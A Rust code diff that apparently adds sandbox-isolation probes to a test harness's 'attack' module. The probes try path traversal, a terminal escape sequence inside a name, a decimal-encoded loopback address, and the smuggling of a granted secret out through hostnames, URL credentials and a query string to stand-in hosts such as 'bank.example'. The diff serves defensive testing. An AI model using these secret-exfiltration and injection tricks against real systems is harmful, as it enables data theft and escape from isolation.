@@ -61,9 +61,56 @@ fn sweep(phase: Phase) -> String {
     lines.join("\n")
 }
 
+/// Names that might mean something of another team or of the host: a variable, a connection and a directory for each.
+fn guesses() -> String {
+    let names = [
+        "bank",
+        "alpha.bank",
+        "../bank",
+        "alpha/bank",
+        "bank\u{1b}[2J",
+        "",
+    ];
+    let mut told = Vec::new();
+    for name in names {
+        told.extend([
+            ask::variable(name),
+            ask::connection(name),
+            ask::directory(name),
+        ]);
+    }
+    for server in ["private.example", "bank.example", "2130706433"] {
+        told.push(call(server));
+    }
+    told.join("|")
+}
+
+/// What was told in confidence, as a part of other names.
+fn confided() -> String {
+    let secret = ask::variable("granted");
+    [
+        ask::variable(&format!("{secret}.txt")),
+        ask::connection(&secret),
+        ask::directory(&format!("of/{secret}")),
+        ask::pull(&secret, "run", &secret),
+        ask::push(&secret, "1"),
+        call(&format!("{secret}.example")),
+        call(&format!("somebody:{secret}@private.example")),
+        status(ask::http(
+            Scheme::Https,
+            "bank.example",
+            &format!("/?key={secret}"),
+            None,
+        )),
+    ]
+    .join("|")
+}
+
 pub(crate) fn attack(phase: Phase, which: &str) -> String {
     match which {
         "sweep" => sweep(phase),
+        "guesses" => guesses(),
+        "confided" => confided(),
         other => format!("there is no reach `{other}`"),
     }
 }
